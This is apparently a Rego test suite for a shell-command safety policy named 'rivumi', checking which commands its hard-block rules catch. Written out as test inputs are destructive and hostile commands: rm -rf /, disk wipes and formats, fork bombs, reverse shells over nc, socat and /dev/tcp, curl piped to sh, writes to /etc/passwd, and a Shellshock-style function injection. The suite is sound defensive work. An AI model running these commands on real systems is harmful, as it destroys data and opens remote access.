package rivumi.rules_test

import data.rivumi.lib.fixture as fx
import data.rivumi.rules

# floor.rm-critical

rm_root := fx.run(["rm", "-rf", "/"], {
	"flags": {"recursive", "force"},
	"operands": [fx.path("/", "root")],
	"writes": [fx.path("/", "root")],
})

test_rm_critical_root if {
	{"id": "floor.rm-critical"} in rules.floor with input as rm_root
		with data.rivumi.tables as fx.tables
}

test_rm_critical_every_spelling if {
	every flags in [{"recursive"}, {"recursive", "force"}, {"no-preserve-root"}] {
		every class in ["root", "home", "system-top"] {
			{"id": "floor.rm-critical"} in rules.floor with input as fx.run(["rm", "-r", "x"], {
				"flags": flags,
				"operands": [fx.path("x", class)],
			})
				with data.rivumi.tables as fx.tables
		}
	}
}

test_rm_critical_tar_remove_files if {
	every mode in ["create", "append", "c"] {
		{"id": "floor.rm-critical"} in rules.floor with input as fx.run(["tar", "--remove-files", "-cf", "a.tar", "/etc"], {
			"flags": {mode, "remove-files"},
			"operands": [fx.path("/etc", "system-top")],
		})
			with data.rivumi.tables as fx.tables
	}
}

test_rm_critical_tar_remove_files_near_misses if {
	# Extracting, or archiving a workspace directory: not the floor.
	not {"id": "floor.rm-critical"} in rules.floor with input as fx.run(["tar", "--remove-files", "-xf", "a.tar", "/etc"], {
		"flags": {"extract", "remove-files"},
		"operands": [fx.path("/etc", "system-top")],
	})
		with data.rivumi.tables as fx.tables
	not {"id": "floor.rm-critical"} in rules.floor with input as fx.run(["tar", "--remove-files", "-cf", "a.tar", "build"], {
		"flags": {"create", "remove-files"},
		"operands": [fx.path("build", "workspace")],
	})
		with data.rivumi.tables as fx.tables
}

test_rm_critical_other_deleters if {
	every prog in ["rmdir", "srm", "trash", "trash-put"] {
		{"id": "floor.rm-critical"} in rules.floor with input as fx.run([prog, "-r", "/"], {
			"flags": {"recursive"},
			"operands": [fx.path("/", "root")],
		})
			with data.rivumi.tables as fx.tables
	}
}

test_rm_critical_spares_workspace_dir if {
	cmd := fx.run(["rm", "-rf", "build"], {
		"flags": {"recursive", "force"},
		"operands": [fx.path("build", "workspace")],
	})
	not {"id": "floor.rm-critical"} in rules.floor with input as cmd
		with data.rivumi.tables as fx.tables
	{"id": "fs.delete"} in rules.ask with input as cmd
		with data.rivumi.tables as fx.tables
}

test_rm_critical_needs_recursion if {
	not {"id": "floor.rm-critical"} in rules.floor with input as fx.run(["rm", "-f", "/"], {
		"flags": {"force"},
		"operands": [fx.path("/", "root")],
	})
		with data.rivumi.tables as fx.tables
}

# floor.find-delete-critical

test_find_delete_critical_home if {
	{"id": "floor.find-delete-critical"} in rules.floor with input as fx.run(["find", "~", "-delete"], {
		"flags": {"delete"},
		"operands": [fx.path("~", "home")],
	})
}

test_find_delete_critical_spares_workspace if {
	cmd := fx.run(["find", ".", "-delete"], {"flags": {"delete"}, "operands": [fx.path(".", "workspace")]})
	not {"id": "floor.find-delete-critical"} in rules.floor with input as cmd
	{"id": "fs.delete"} in rules.ask with input as cmd
}

test_find_delete_critical_needs_delete if {
	not {"id": "floor.find-delete-critical"} in rules.floor with input as fx.run(["find", "/", "-name", "x"], {
		"flags": {"name"},
		"options": {"name": ["x"]},
		"operands": [fx.path("/", "root")],
	})
}

# floor.mv-critical

test_mv_critical_root if {
	every prog in ["mv", "shred", "wipe"] {
		{"id": "floor.mv-critical"} in rules.floor with input as fx.run([prog, "/usr", "/old"], {
			"operands": [fx.path("/usr", "system-top"), fx.path("/old", "outside")],
		})
			with data.rivumi.tables as fx.tables
	}
}

test_mv_critical_spares_subdirectories if {
	not {"id": "floor.mv-critical"} in rules.floor with input as fx.run(["mv", "/usr/local/x", "y"], {
		"operands": [fx.path("/usr/local/x", "system"), fx.path("y", "workspace")],
	})
		with data.rivumi.tables as fx.tables
}

# floor.fork-bomb

test_fork_bomb if {
	{"id": "floor.fork-bomb"} in rules.floor with input as fx.run([":"], {"tags": {"fork-bomb", "background"}})
}

test_fork_bomb_needs_tag if {
	not {"id": "floor.fork-bomb"} in rules.floor with input as fx.run([":"], {"tags": {"background"}})
}

# floor.device-write

test_device_write_dd if {
	{"id": "floor.device-write"} in rules.floor with input as fx.run(["dd", "if=x", "of=/dev/sda"], {
		"options": {"if": ["x"], "of": ["/dev/sda"]},
		"writes": [fx.path("/dev/sda", "device")],
	})
}

test_device_write_spares_null if {
	not {"id": "floor.device-write"} in rules.floor with input as fx.run(["echo", "hi"], {
		"redirects": [fx.redirect(">", "/dev/null", "null")],
		"writes": [fx.path("/dev/null", "null")],
	})
}

# floor.device-format

test_device_format_wipefs if {
	{"id": "floor.device-format"} in rules.floor with input as fx.run(["wipefs", "-a", "/dev/sda"], {
		"flags": {"a"},
		"operands": [fx.path("/dev/sda", "device")],
	})
		with data.rivumi.tables as fx.tables
}

test_device_format_spares_image_file if {
	not {"id": "floor.device-format"} in rules.floor with input as fx.run(["wipefs", "-a", "disk.img"], {
		"flags": {"a"},
		"operands": [fx.path("disk.img", "workspace")],
	})
		with data.rivumi.tables as fx.tables
}

# floor.mkfs

test_mkfs if {
	{"id": "floor.mkfs"} in rules.floor with input as fx.run(["mkfs.ext4", "/dev/sdb1"], {
		"operands": [fx.path("/dev/sdb1", "device")],
	})
}

# An image file in the workspace is not a device: it asks.
test_mkfs_image_file_is_not_floor if {
	not {"id": "floor.mkfs"} in rules.floor with input as fx.run(["mkfs.ext4", "-F", "disk.img"], {
		"flags": {"F"},
		"operands": [fx.path("disk.img", "workspace")],
	})
}

test_mkfs_needs_the_program if {
	not {"id": "floor.mkfs"} in rules.floor with input as fx.run(["mke2fs-helper", "x"], {})
}

# floor.fetch-run

test_fetch_run if {
	{"id": "floor.fetch-run"} in rules.floor with input as fx.run(["sh"], {
		"tags": {"stdin-code", "fetched-code"},
		"upstream": ["curl"],
	})
}

test_fetch_run_needs_fetched_code if {
	cmd := fx.run(["sh"], {"tags": {"stdin-code"}, "upstream": ["cat"]})
	not {"id": "floor.fetch-run"} in rules.floor with input as cmd
	{"id": "shell.stdin-code"} in rules.ask with input as cmd
}

# floor.download-exec

test_download_exec if {
	{"id": "floor.download-exec"} in rules.floor with input as fx.run(["sh", "a.sh"], {
		"operands": [fx.path("a.sh", "workspace")],
		"tags": {"script-file", "runs-downloaded"},
	})
}

test_download_exec_needs_download if {
	not {"id": "floor.download-exec"} in rules.floor with input as fx.run(["sh", "a.sh"], {
		"operands": [fx.path("a.sh", "workspace")],
		"tags": {"script-file"},
	})
}

# floor.reverse-shell

test_reverse_shell_nc_exec if {
	every f in ["e", "c"] {
		nc := fx.run(["nc", concat("", ["-", f]), "sh", "h", "1"], {
			"flags": {f},
			"options": {f: ["sh"]},
			"operands": [fx.path("h", "workspace"), fx.path("1", "workspace")],
		})
		{"id": "floor.reverse-shell"} in rules.floor with input as nc
			with data.rivumi.tables as fx.tables
	}
}

test_reverse_shell_socat_exec if {
	{"id": "floor.reverse-shell"} in rules.floor with input as fx.run(["socat", "tcp:h:1", "EXEC:sh"], {
		"operands": [fx.path("tcp:h:1", "workspace"), fx.path("EXEC:sh", "workspace")],
	})
		with data.rivumi.tables as fx.tables
}

test_reverse_shell_dev_tcp_redirect if {
	{"id": "floor.reverse-shell"} in rules.floor with input as fx.run(["bash", "-i"], {
		"flags": {"i"},
		"redirects": [fx.redirect(">&", "/dev/tcp/h/1", "net")],
		"writes": [fx.path("/dev/tcp/h/1", "net")],
		"tags": {"interactive"},
	})
		with data.rivumi.tables as fx.tables
}

test_reverse_shell_dev_tcp_operand if {
	{"id": "floor.reverse-shell"} in rules.floor with input as fx.run(["cat", "/dev/tcp/h/1"], {
		"operands": [fx.path("/dev/tcp/h/1", "net")],
	})
		with data.rivumi.tables as fx.tables
}

test_reverse_shell_shell_in_network_pipe if {
	{"id": "floor.reverse-shell"} in rules.floor with input as fx.run(["sh"], {"upstream": ["nc"]})
		with data.rivumi.tables as fx.tables
	{"id": "floor.reverse-shell"} in rules.floor with input as fx.run(["bash", "-i"], {"downstream": ["telnet"], "flags": {"i"}})
		with data.rivumi.tables as fx.tables
	not {"id": "floor.reverse-shell"} in rules.floor with input as fx.run(["grep", "x"], {"upstream": ["nc"]})
		with data.rivumi.tables as fx.tables
}

test_reverse_shell_code if {
	{"id": "floor.reverse-shell"} in rules.floor with input as fx.run(["perl", "-e", "x"], {
		"flags": {"e"},
		"code": [fx.code("perl", "x", false)],
		"tags": {"code-revshell", "code-spawns"},
	})
		with data.rivumi.tables as fx.tables
}

test_reverse_shell_near_misses if {
	# nc without -e/-c only connects.
	not {"id": "floor.reverse-shell"} in rules.floor with input as fx.run(["nc", "-z", "h", "1"], {
		"flags": {"z"},
		"operands": [fx.path("h", "workspace"), fx.path("1", "workspace")],
	})
		with data.rivumi.tables as fx.tables

	# socat between two sockets runs nothing.
	not {"id": "floor.reverse-shell"} in rules.floor with input as fx.run(["socat", "tcp-l:1", "tcp:h:2"], {
		"operands": [fx.path("tcp-l:1", "workspace"), fx.path("tcp:h:2", "workspace")],
	})
		with data.rivumi.tables as fx.tables

	# A shell piped into a non-network program.
	not {"id": "floor.reverse-shell"} in rules.floor with input as fx.run(["sh", "x.sh"], {"downstream": ["tee"]})
		with data.rivumi.tables as fx.tables

	# nc itself in a pipe, without a shell.
	not {"id": "floor.reverse-shell"} in rules.floor with input as fx.run(["grep", "x"], {"upstream": ["nc"]})
		with data.rivumi.tables as fx.tables
}

# floor.system-credentials

test_system_credentials if {
	{"id": "floor.system-credentials"} in rules.floor with input as fx.run(["echo", "x"], {
		"redirects": [fx.redirect(">>", "/etc/passwd", "credentials")],
		"writes": [fx.path("/etc/passwd", "credentials")],
	})
}

test_system_credentials_reading_is_not_floor if {
	cmd := fx.run(["cat", "/etc/shadow"], {"operands": [fx.path("/etc/shadow", "credentials")]})
	not {"id": "floor.system-credentials"} in rules.floor with input as cmd
		with data.rivumi.tables as fx.tables
	{"id": "fs.read-secret"} in rules.ask with input as cmd
		with data.rivumi.tables as fx.tables
}

# floor.kill-init

test_kill_init if {
	every pid in ["1", "-1"] {
		{"id": "floor.kill-init"} in rules.floor with input as fx.run(["kill", "-9", pid], {
			"flags": {"signal"},
			"options": {"signal": ["KILL"]},
			"operands": [fx.path(pid, "workspace")],
		})
			with data.rivumi.tables as fx.tables
	}
}

test_kill_init_power if {
	every prog in ["shutdown", "reboot", "halt", "poweroff", "telinit"] {
		{"id": "floor.kill-init"} in rules.floor with input as fx.run([prog], {})
			with data.rivumi.tables as fx.tables
	}
}

test_kill_init_runlevel if {
	init := fx.run(["init", "0"], {"operands": [fx.path("0", "workspace")]})
	{"id": "floor.kill-init"} in rules.floor with input as init
		with data.rivumi.tables as fx.tables
}

test_kill_init_systemctl if {
	{"id": "floor.kill-init"} in rules.floor with input as fx.run(["systemctl", "reboot"], {"subcommand": "reboot"})
		with data.rivumi.tables as fx.tables
}

test_kill_init_by_name if {
	{"id": "floor.kill-init"} in rules.floor with input as fx.run(["pkill", "systemd"], {
		"operands": [fx.path("systemd", "workspace")],
	})
		with data.rivumi.tables as fx.tables
}

test_kill_init_shows_only if {
	every sub in ["status", "cat", "list-dependencies", "is-active"] {
		not {"id": "floor.kill-init"} in rules.floor with input as fx.run(["systemctl", sub, "reboot.target"], {
			"subcommand": sub,
			"operands": [fx.path("reboot.target", "workspace")],
		})
			with data.rivumi.tables as fx.tables
	}
	every sub in ["start", "isolate", "set-default", "enable", ""] {
		{"id": "floor.kill-init"} in rules.floor with input as fx.run(["systemctl", sub, "reboot.target"], {
			"subcommand": sub,
			"operands": [fx.path("reboot.target", "workspace")],
		})
			with data.rivumi.tables as fx.tables
	}
}

test_kill_init_shutdown_cancel if {
	every flags in [{"c"}, {"show"}, {"help"}, {"c", "no-wall"}] {
		not {"id": "floor.kill-init"} in rules.floor with input as fx.run(["shutdown", "-x"], {"flags": flags})
			with data.rivumi.tables as fx.tables
	}
	every flags in [{"c", "r"}, {"c", "h"}, {"no-wall"}, set()] {
		{"id": "floor.kill-init"} in rules.floor with input as fx.run(["shutdown", "-x"], {"flags": flags})
			with data.rivumi.tables as fx.tables
	}

	# a word rivumi cannot read may be -r
	{"id": "floor.kill-init"} in rules.floor with input as fx.run(["shutdown", "-c", "$x"], {
		"flags": {"c"},
		"tags": {"dynamic-args"},
	})
		with data.rivumi.tables as fx.tables

	# -c is shutdown's alone
	{"id": "floor.kill-init"} in rules.floor with input as fx.run(["reboot", "-c"], {"flags": {"c"}})
		with data.rivumi.tables as fx.tables
}

test_kill_init_by_pattern if {
	every p in ["^init$", "syst.md", "."] {
		{"id": "floor.kill-init"} in rules.floor with input as fx.run(["pkill", p], {
			"operands": [fx.path(p, "workspace")],
		})
			with data.rivumi.tables as fx.tables
	}
	{"id": "floor.kill-init"} in rules.floor with input as fx.run(["killall", "-r", "^sys"], {
		"flags": {"regexp"},
		"operands": [fx.path("^sys", "workspace")],
	})
		with data.rivumi.tables as fx.tables
}

test_kill_init_inverse if {
	{"id": "floor.kill-init"} in rules.floor with input as fx.run(["pkill", "-v", "node"], {
		"flags": {"inverse"},
		"operands": [fx.path("node", "workspace")],
	})
		with data.rivumi.tables as fx.tables
}

test_kill_init_every_process if {
	{"id": "floor.kill-init"} in rules.floor with input as fx.run(["killall", "-u", "root"], {"flags": {"user"}})
		with data.rivumi.tables as fx.tables
	not {"id": "floor.kill-init"} in rules.floor with input as fx.run(["killall", "-l"], {"flags": {"list"}})
		with data.rivumi.tables as fx.tables
}

test_kill_init_near_misses if {
	cmd := fx.run(["kill", "-9", "1234"], {
		"flags": {"signal"},
		"options": {"signal": ["KILL"]},
		"operands": [fx.path("1234", "workspace")],
	})
	not {"id": "floor.kill-init"} in rules.floor with input as cmd
		with data.rivumi.tables as fx.tables
	{"id": "ops.kill"} in rules.ask with input as cmd
		with data.rivumi.tables as fx.tables

	not {"id": "floor.kill-init"} in rules.floor with input as fx.run(["init", "3"], {
		"operands": [fx.path("3", "workspace")],
	})
		with data.rivumi.tables as fx.tables
	not {"id": "floor.kill-init"} in rules.floor with input as fx.run(["systemctl", "status"], {"subcommand": "status"})
		with data.rivumi.tables as fx.tables
	not {"id": "floor.kill-init"} in rules.floor with input as fx.run(["pkill", "node"], {
		"operands": [fx.path("node", "workspace")],
	})
		with data.rivumi.tables as fx.tables
}

# floor.chmod-critical

test_chmod_critical if {
	every prog in ["chmod", "chown", "chgrp", "chattr", "setfacl"] {
		{"id": "floor.chmod-critical"} in rules.floor with input as fx.run([prog, "-R", "777", "/"], {
			"flags": {"recursive"},
			"operands": [fx.path("777", "workspace"), fx.path("/", "root")],
		})
			with data.rivumi.tables as fx.tables
	}
}

test_chmod_critical_needs_recursion if {
	not {"id": "floor.chmod-critical"} in rules.floor with input as fx.run(["chmod", "755", "/usr"], {
		"operands": [fx.path("755", "workspace"), fx.path("/usr", "system-top")],
	})
		with data.rivumi.tables as fx.tables
}

test_chmod_critical_spares_workspace if {
	not {"id": "floor.chmod-critical"} in rules.floor with input as fx.run(["chmod", "-R", "u+w", "build"], {
		"flags": {"recursive"},
		"operands": [fx.path("u+w", "workspace"), fx.path("build", "workspace")],
	})
		with data.rivumi.tables as fx.tables
}

# floor.bash-func

test_bash_func if {
	{"id": "floor.bash-func"} in rules.floor with input as fx.run(["bash", "-c", "x"], {
		"flags": {"c"},
		"wrappers": [fx.wrapper("env", [])],
		"assigns": [fx.assign("BASH_FUNC_x%%", "() { id; }")],
	})
}

test_bash_func_needs_the_prefix if {
	not {"id": "floor.bash-func"} in rules.floor with input as fx.run(["ls"], {
		"assigns": [fx.assign("MY_BASH_FUNC", "x")],
	})
}

# floor.code-critical

test_code_critical if {
	{"id": "floor.code-critical"} in rules.floor with input as fx.run(["python3", "-c", "rmtree('/')"], {
		"flags": {"c"},
		"code": [fx.code("python", "rmtree('/')", false)],
		"tags": {"code-critical"},
	})
}

test_code_critical_needs_tag if {
	cmd := fx.run(["python3", "-c", "print(1)"], {
		"flags": {"c"},
		"code": [fx.code("python", "print(1)", false)],
	})
	not {"id": "floor.code-critical"} in rules.floor with input as cmd
	{"id": "shell.interpreter-code"} in rules.ask with input as cmd
}

# A plain read-only command raises nothing at the floor.
test_floor_empty_for_plain_command if {
	count(rules.floor) == 0 with input as fx.run(["ls", "-la"], {"flags": {"l", "a"}})
}

# The same critical facts on programs that only read.
test_floor_spares_readers_of_critical_paths if {
	# ls -R / lists, chmod -R / would not.
	ls := fx.run(["ls", "-R", "/"], {"flags": {"recursive"}, "operands": [fx.path("/", "root")]})
	count(rules.floor) == 0 with input as ls

	# Copying /etc away reads it.
	count(rules.floor) == 0 with input as fx.run(["cp", "-r", "/etc", "etc-backup"], {
		"flags": {"recursive"},
		"operands": [fx.path("/etc", "system-top"), fx.path("etc-backup", "workspace")],
		"writes": [fx.path("etc-backup", "workspace")],
	})

	# grep -c counts; echo prints a word that looks like a socat address.
	count(rules.floor) == 0 with input as fx.run(["grep", "-c", "x"], {"flags": {"c"}})
	count(rules.floor) == 0 with input as fx.run(["echo", "exec:sh"], {"operands": [fx.path("exec:sh", "workspace")]})

	# Numbers and names that mean init to kill, init and pkill.
	count(rules.floor) == 0 with input as fx.run(["sleep", "1"], {"operands": [fx.path("1", "workspace")]})
	count(rules.floor) == 0 with input as fx.run(["sleep", "0"], {"operands": [fx.path("0", "workspace")]})
	count(rules.floor) == 0 with input as fx.run(["pgrep", "init"], {"operands": [fx.path("init", "workspace")]})
	count(rules.floor) == 0 with input as fx.run(["vagrant", "halt"], {"subcommand": "halt"})
}

# floor.device-partition

test_device_partition if {
	{"id": "floor.device-partition"} in rules.floor with input as fx.run(["sfdisk", "/dev/sda"], {
		"operands": [fx.path("/dev/sda", "device")],
	})
		with data.rivumi.tables as fx.tables
	{"id": "floor.device-partition"} in rules.floor with input as fx.run(["parted", "-s", "/dev/sda", "mklabel", "gpt"], {
		"flags": {"s"},
		"operands": [fx.path("/dev/sda", "device"), fx.path("mklabel", "workspace"), fx.path("gpt", "workspace")],
	})
		with data.rivumi.tables as fx.tables
	{"id": "floor.device-partition"} in rules.floor with input as fx.run(["cryptsetup", "luksFormat", "/dev/sda"], {
		"operands": [fx.path("luksFormat", "workspace"), fx.path("/dev/sda", "device")],
	})
		with data.rivumi.tables as fx.tables
}

test_device_partition_listing_is_fine if {
	not {"id": "floor.device-partition"} in rules.floor with input as fx.run(["fdisk", "-l", "/dev/sda"], {
		"flags": {"l"},
		"operands": [fx.path("/dev/sda", "device")],
	})
		with data.rivumi.tables as fx.tables
	not {"id": "floor.device-partition"} in rules.floor with input as fx.run(["parted", "/dev/sda", "print"], {
		"operands": [fx.path("/dev/sda", "device"), fx.path("print", "workspace")],
	})
		with data.rivumi.tables as fx.tables
}

# Near misses of the shell floor: a find that picks files, mv into home, a
# shell shipping a script's output, parted listing, cryptsetup on an image.
test_find_delete_narrowed_is_not_floor if {
	not {"id": "floor.find-delete-critical"} in rules.floor with input as fx.run(
		["find", "/", "-name", "*.pyc", "-delete"],
		{"flags": {"name", "delete"}, "operands": [fx.path("/", "root")]},
	)
	{"id": "floor.find-delete-critical"} in rules.floor with input as fx.run(
		["find", "/", "!", "-name", "x", "-delete"],
		{"flags": {"name", "delete"}, "operands": [fx.path("/", "root")]},
	)
	{"id": "floor.find-delete-critical"} in rules.floor with input as fx.run(
		["find", "/", "-name", "*", "-delete"],
		{"flags": {"name", "delete"}, "operands": [fx.path("/", "root")]},
	)
}

test_mv_into_home_is_not_floor if {
	not {"id": "floor.mv-critical"} in rules.floor with input as fx.run(["mv", "notes.txt", "~"], {
		"operands": [fx.path("notes.txt", "workspace"), fx.path("~", "home")],
	})
	{"id": "floor.mv-critical"} in rules.floor with input as fx.run(["mv", "-t", "/tmp/x", "/usr"], {
		"flags": {"target-directory"},
		"operands": [fx.path("/usr", "system-top")],
	})
}

test_shell_output_to_network_is_not_floor if {
	not {"id": "floor.reverse-shell"} in rules.floor with input as fx.run(["bash", "build.sh"], {
		"downstream": ["nc"],
		"operands": [fx.path("build.sh", "workspace")],
		"tags": {"script-file"},
	})
		with data.rivumi.tables as fx.tables
	{"id": "floor.reverse-shell"} in rules.floor with input as fx.run(["sh"], {
		"downstream": ["nc"],
		"tags": {"stdin-code"},
	})
		with data.rivumi.tables as fx.tables
}

test_partition_near_misses if {
	not {"id": "floor.device-partition"} in rules.floor with input as fx.run(["parted", "/dev/sda", "print", "free"], {
		"operands": [fx.path("/dev/sda", "device"), fx.path("print", "workspace"), fx.path("free", "workspace")],
		"read_classes": {"device"},
	})
	not {"id": "floor.device-partition"} in rules.floor with input as fx.run(["cryptsetup", "luksFormat", "vault.img"], {
		"operands": [fx.path("luksFormat", "workspace"), fx.path("vault.img", "workspace")],
	})
}

test_find_delete_wide_patterns_are_floor if {
	every t in [["-path", "/*"], ["-path", "*/*"], ["-name", "?*"], ["-regex", "/.*"], ["-iregex", ".+"]] {
		{"id": "floor.find-delete-critical"} in rules.floor with input as fx.run(
			array.concat(array.concat(["find", "/"], t), ["-delete"]),
			{"flags": {trim_left(t[0], "-"), "delete"}, "operands": [fx.path("/", "root")]},
		)
	}
	{"id": "floor.find-delete-critical"} in rules.floor with input as fx.run(
		["find", "/usr", "-path", "/usr/*", "-delete"],
		{"flags": {"path", "delete"}, "operands": [fx.path("/usr", "system-top")]},
	)
}

test_find_delete_narrow_patterns_are_not_floor if {
	every t in [["-path", "/tmp/*"], ["-name", "?"], ["-regex", "/tmp/.*"], ["-path", "*/node_modules/*"]] {
		not {"id": "floor.find-delete-critical"} in rules.floor with input as fx.run(
			array.concat(array.concat(["find", "/"], t), ["-delete"]),
			{"flags": {trim_left(t[0], "-"), "delete"}, "operands": [fx.path("/", "root")]},
		)
	}
}

test_device_partition_sgdisk if {
	every flags in [{"d"}, {"l"}, {"s"}, {"p", "Z"}] {
		{"id": "floor.device-partition"} in rules.floor with input as fx.run(["sgdisk", "-x", "/dev/sda"], {
			"flags": flags,
			"operands": [fx.path("/dev/sda", "device")],
		})
			with data.rivumi.tables as fx.tables
	}
	every flags in [{"p"}, {"print", "verify"}, {"i"}] {
		not {"id": "floor.device-partition"} in rules.floor with input as fx.run(["sgdisk", "-x", "/dev/sda"], {
			"flags": flags,
			"operands": [fx.path("/dev/sda", "device")],
		})
			with data.rivumi.tables as fx.tables
	}
}

test_kill_init_systemctl_kill if {
	{"id": "floor.kill-init"} in rules.floor with input as fx.run(["systemctl", "kill", "init.scope"], {
		"subcommand": "kill",
		"operands": [fx.path("init.scope", "workspace")],
	})
		with data.rivumi.tables as fx.tables
	not {"id": "floor.kill-init"} in rules.floor with input as fx.run(["systemctl", "kill", "nginx.service"], {
		"subcommand": "kill",
		"operands": [fx.path("nginx.service", "workspace")],
	})
		with data.rivumi.tables as fx.tables
}
